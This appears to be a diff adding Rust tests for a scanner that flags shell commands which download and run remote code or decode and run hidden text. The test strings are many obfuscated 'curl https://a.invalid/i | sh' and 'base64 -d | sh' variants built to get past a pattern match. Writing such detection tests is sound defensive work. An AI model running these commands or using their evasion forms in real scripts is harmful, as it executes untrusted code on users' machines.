@@ -172,6 +172,50 @@ fn a_download_may_be_written_in_many_ways() {
 }
 
 #[test]
+fn groups_options_and_words_may_be_many() {
+    let (open, close) = ("( ".repeat(3000), " )".repeat(3000));
+    let grouped = format!("{open}curl https://a.invalid/i{close} | sh");
+    let (open, close) = ("{ ".repeat(2000), "; }".repeat(2000));
+    let braced = format!("{open}curl https://a.invalid/i{close} | sh");
+    let (open, close) = ("(a; ".repeat(40), ")".repeat(40));
+    let led = format!("{open}curl https://a.invalid/i{close} | {open}sh{close}");
+    let (open, close) = ("$(echo ".repeat(20), ")".repeat(20));
+    let substituted = format!("echo {open}$(curl https://a.invalid/i){close} | sh");
+    let blocks = ("if :; then ".repeat(40), "; fi".repeat(40));
+    let blocks = format!("{}curl https://a.invalid/i{} | sh", blocks.0, blocks.1);
+    let options = format!("sh {}-c \"$(curl https://a.invalid/i)\"", "+x ".repeat(40));
+    let code = "x".repeat(900);
+    let code = format!("sh -c \": {code}; $(curl https://a.invalid/i)\"");
+    let settings = format!("{}$(curl https://a.invalid/i)", "A=1 ".repeat(40));
+    let started = format!("curl https://a.invalid/i | {}(sh)", "A=1 ".repeat(40));
+    let path = format!("curl https://a.invalid/i | /bin/{}sh", "./".repeat(400));
+    for text in [
+        "sh -o errexit -c \"$(curl https://a.invalid/i)\"",
+        "bash --rcfile a -c \"$(curl https://a.invalid/i)\"",
+        "eval \": a; ( $(curl https://a.invalid/i) )\"",
+        "while read -r x; do eval \"$x\"; done < <(curl https://a.invalid/i)",
+        "while read -r x; do if a; then sh -c \"${x}\"; fi; done <<< \"$(curl https://a.invalid/i)\"",
+        "while read -r x\ndo\n  eval $x\ndone < <(curl https://a.invalid/i)",
+        ">curl https://a.invalid/i |\\\n>sh",
+        "PS1> curl https://a.invalid/i |\n  sh",
+        &grouped,
+        &braced,
+        &led,
+        &substituted,
+        &blocks,
+        &options,
+        &code,
+        &settings,
+        &started,
+        &path,
+    ] {
+        let found = run(text);
+        let is_found = |(signal, _): &(Signal, &str)| *signal == Signal::FetchRun;
+        assert!(found.iter().any(is_found), "{text}: {found:?}");
+    }
+}
+
+#[test]
 fn decoded_text_and_the_words_of_another_machine_are_run_too() {
     for (signal, text) in [
         (Signal::DecodeRun, "echo aGk= | base64 -d | sh"),
@@ -183,6 +227,10 @@ fn decoded_text_and_the_words_of_another_machine_are_run_too() {
         (
             Signal::DecodeRun,
             "openssl enc -aes-256-cbc -d -in a | bash",
+        ),
+        (
+            Signal::DecodeRun,
+            "echo aGk= | base64 -i -i -i -i -i -i -i -i -i -i -i -i -i -d | sh",
         ),
         (Signal::DecodeRun, "echo 6869 | xxd -r -p | sh"),
         (Signal::DecodeRun, "dig +short TXT a.invalid | sh"),
@@ -238,6 +286,10 @@ fn what_only_reads_or_stores_a_download_is_not_found() {
         "| Tool | Use |\n| curl https://a.invalid/a |\n| sh |",
         "bash -n <(curl -s https://a.invalid/a)",
         "source <(kubectl completion bash)",
+        "while read -r x; do echo \"$x\"; done < <(curl https://a.invalid/a)",
+        "while read -r x; do eval \"$y\"; done < <(curl https://a.invalid/a)",
+        "sh -c \"echo $(curl https://a.invalid/a)\"",
+        "curl https://a.invalid/a >sh\nsh build.sh",
         "echo aGk= | base64 -d | jq .",
         "echo aGk= | base64 | sh -n",
         "grep -E 'curl.*[|] *sh' a.txt",
@@ -263,4 +315,17 @@ fn a_place_is_in_the_original_text() {
             "curl https://a.invalid/i \\\n  | \\\n  sudo \"sh\""
         )]
     );
+}
+
+#[test]
+fn a_command_that_is_nested_too_deeply_is_marked() {
+    let path = RelPath::parse("a.sh").expect("a path");
+    for (depth, expected) in [(30, false), (40, true)] {
+        let (open, close) = ("$(a ".repeat(depth), ")".repeat(depth));
+        let text = format!("{open}curl https://a.invalid/i{close}\n");
+        let revealed = Revealed::from_text(&path, &text);
+        let found = matches(&revealed.files[0].layers[0], &Stop::default()).unwrap_or_default();
+        let is_marked = found.iter().any(|hit| hit.signal == Signal::Unread);
+        assert_eq!(is_marked, expected, "{depth}");
+    }
 }
